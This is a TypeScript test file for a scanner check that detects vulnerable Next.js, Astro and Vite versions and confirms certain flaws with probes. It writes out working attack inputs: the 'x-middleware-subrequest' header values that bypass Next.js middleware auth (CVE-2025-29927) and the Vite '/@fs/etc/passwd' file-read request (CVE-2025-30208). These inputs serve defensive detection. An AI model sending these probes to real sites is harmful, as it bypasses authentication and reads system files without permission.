import { describe, expect, it } from 'vitest';
import { isAffected } from '../analysis/js-libraries';
import { makeSite, plannedProbes, type SiteInit } from '../testing/site';
import { FRAMEWORK_ADVISORIES, frameworkVulnerableVersion } from './framework-vulnerable-version';

const ORIGIN = 'https://next.example';
const ID = 'framework-vulnerable-version';

const appRouterPage = (version?: string) =>
  `<html><head><script src="/_next/static/chunks/main-app.js" async></script></head><body><a href="/dashboard">Dashboard</a>` +
  `<script>self.__next_f.push([1,"0:[\\"$\\",\\"main\\",null,{}]\\n"])</script>${version ? `<script>window.next={version:"${version}",appDir:true}</script>` : ''}</body></html>`;

/** The crawl followed /dashboard to the sign-in page, as a guarded app answers. */
const guardedDashboard = {
  url: `${ORIGIN}/dashboard`,
  finalUrl: `${ORIGIN}/login`,
  redirects: [{ url: `${ORIGIN}/dashboard`, status: 307, location: '/login', headers: [] }],
  body: '<html><body><form><input name="email"><input type="password" name="password"></form></body></html>',
};

function site(init: Partial<SiteInit> & { version?: string }) {
  return makeSite({
    root: { url: `${ORIGIN}/`, body: appRouterPage(init.version), headers: { 'x-powered-by': 'Next.js' } },
    pages: [guardedDashboard],
    notFound: { url: `${ORIGIN}/nope`, status: 404, body: 'This page could not be found.' },
    ...init,
  });
}

describe('framework advisories data', () => {
  it('has the middleware bypass ranges of CVE-2025-29927 and the React2Shell ranges', () => {
    const next = FRAMEWORK_ADVISORIES.libraries.nextjs!.vulnerabilities;
    const bypass = next.filter((a) => a.identifiers.CVE?.includes('CVE-2025-29927'));
    expect(bypass.map((a) => a.below)).toEqual(['12.3.5', '13.5.9', '14.2.25', '15.2.3']);
    expect(['14.1.0', '15.2.2', '12.3.4'].every((v) => bypass.some((a) => isAffected(v, a)))).toBe(true);
    expect(['14.2.25', '15.2.3', '13.5.9'].some((v) => bypass.some((a) => isAffected(v, a)))).toBe(false);
    const rsc = next.filter((a) => a.identifiers.CVE?.includes('CVE-2025-55182'));
    expect(rsc.every((a) => a.requires === 'app-router' && a.severity === 'critical')).toBe(true);
    expect(rsc.some((a) => isAffected('16.0.6', a))).toBe(true);
    expect(rsc.some((a) => isAffected('16.0.7', a) || isAffected('15.5.7', a) || isAffected('14.2.30', a))).toBe(false);
  });
});

describe('framework-vulnerable-version', () => {
  it('plans plain and x-middleware-subrequest GETs for guarded pages of an affected Next.js', () => {
    const probes = plannedProbes(frameworkVulnerableVersion, site({ version: '14.1.0' }));
    const mw = probes.filter((p) => p.key.includes(':mw:'));
    expect(mw.every((p) => p.method === 'GET' && p.noRedirect && p.url === `${ORIGIN}/dashboard`)).toBe(true);
    expect(mw.map((p) => p.headers?.['x-middleware-subrequest'] ?? 'none')).toEqual([
      'none',
      'middleware:middleware:middleware:middleware:middleware',
      'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
    ]);
  });

  it('plans no bypass test for a patched Next.js', () => {
    expect(plannedProbes(frameworkVulnerableVersion, site({ version: '15.5.18' })).filter((p) => p.key.includes(':mw:'))).toEqual([]);
  });

  it('confirms the bypass when the header turns a redirect into the page', () => {
    const probes = {
      [`${ID}:mw:/dashboard`]: { url: `${ORIGIN}/dashboard`, status: 307, headers: { location: '/login' }, body: '' },
      [`${ID}:mw:/dashboard:0`]: {
        url: `${ORIGIN}/dashboard`,
        status: 200,
        requestHeaders: { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' },
        body: '<html><h1>Revenue</h1></html>',
      },
      [`${ID}:mw:/dashboard:1`]: { url: `${ORIGIN}/dashboard`, status: 307, headers: { location: '/login' }, body: '' },
    };
    const findings = frameworkVulnerableVersion.run(site({ version: '14.1.0', probes }));
    const confirmed = findings.find((f) => f.key === 'CVE-2025-29927');
    expect(confirmed).toMatchObject({ severity: 'critical', confidence: 'high' });
    expect(confirmed!.evidence.request).toContain('x-middleware-subrequest: middleware:middleware');
    // The version finding lists the rest, not the confirmed bypass again.
    const byVersion = findings.find((f) => f.key === 'nextjs@14.1.0');
    expect(byVersion).toMatchObject({ confidence: 'medium' });
    expect(byVersion!.detail).toContain('CVE-2024-34351');
    expect(byVersion!.detail).not.toContain('CVE-2025-29927');
  });

  it('keeps the bypass tentative when the header changes nothing', () => {
    const probes = {
      [`${ID}:mw:/dashboard`]: { url: `${ORIGIN}/dashboard`, status: 307, headers: { location: '/login' }, body: '' },
      [`${ID}:mw:/dashboard:0`]: { url: `${ORIGIN}/dashboard`, status: 307, headers: { location: '/login' }, body: '' },
      [`${ID}:mw:/dashboard:1`]: { url: `${ORIGIN}/dashboard`, status: 307, headers: { location: '/login' }, body: '' },
    };
    const findings = frameworkVulnerableVersion.run(site({ version: '14.1.0', probes }));
    expect(findings.map((f) => f.key)).toEqual(['nextjs@14.1.0']);
    expect(findings[0]!.detail).toContain('CVE-2025-29927');
    expect(findings[0]!.severity).toBe('critical');
  });

  it('applies React2Shell only to app router sites', () => {
    const app = frameworkVulnerableVersion.run(site({ version: '15.3.1' }));
    expect(app[0]!.detail).toContain('CVE-2025-55182');
    const pages = frameworkVulnerableVersion.run(
      makeSite({
        root: {
          url: `${ORIGIN}/`,
          body: '<html><body><script id="__NEXT_DATA__" type="application/json">{"props":{},"buildId":"b"}</script><script>window.next={version:"15.3.1"}</script></body></html>',
        },
      }),
    );
    expect(pages.map((f) => f.detail).join()).not.toContain('CVE-2025-55182');
  });

  it('reports nothing for a current Next.js or an unknown version', () => {
    expect(frameworkVulnerableVersion.run(site({ version: '16.2.6' }))).toEqual([]);
    expect(frameworkVulnerableVersion.run(site({}))).toEqual([]);
  });

  it('reports an old Astro from its generator tag', () => {
    const findings = frameworkVulnerableVersion.run(
      makeSite({ root: { url: `${ORIGIN}/`, body: '<html><head><meta name="generator" content="Astro v4.5.2"></head><body></body></html>' } }),
    );
    expect(findings.map((f) => [f.title, f.severity])).toEqual([['Astro 4.5.2 has known vulnerabilities', 'medium']]);
  });

  it('confirms the Vite /@fs/ bypass on an exposed dev server', () => {
    const dev = { url: `${ORIGIN}/`, body: '<html><head><script type="module" src="/@vite/client"></script></head></html>' };
    const planned = plannedProbes(frameworkVulnerableVersion, makeSite({ root: dev }));
    expect(planned.map((p) => p.url)).toEqual([`${ORIGIN}/@fs/etc/passwd?import&raw??`]);
    const passwd = {
      url: planned[0]!.url,
      contentType: 'text/javascript',
      body: 'export default "root:x:0:0:root:/root:/bin/bash\\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\\n"',
    };
    const found = frameworkVulnerableVersion.run(makeSite({ root: dev, probes: { [planned[0]!.key]: passwd } }));
    expect(found.map((f) => [f.key, f.severity])).toEqual([['CVE-2025-30208', 'high']]);
    const denied = frameworkVulnerableVersion.run(makeSite({ root: dev, probes: { [planned[0]!.key]: { ...passwd, status: 403, body: 'Restricted' } } }));
    expect(denied).toEqual([]);
  });
});
